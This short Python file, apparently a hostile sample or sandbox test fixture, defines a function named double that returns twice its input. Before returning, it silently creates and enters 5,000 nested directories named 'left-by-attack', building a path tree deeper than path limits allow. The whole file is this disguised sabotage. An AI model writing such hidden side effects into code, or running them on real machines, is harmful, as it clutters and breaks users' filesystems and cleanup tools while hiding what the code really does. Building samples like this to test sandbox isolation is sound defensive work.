"""Folders in folders, deeper than any path is long."""

import os


def double(x):
    for _ in range(5_000):
        os.mkdir("left-by-attack")
        os.chdir("left-by-attack")
    return 2 * x
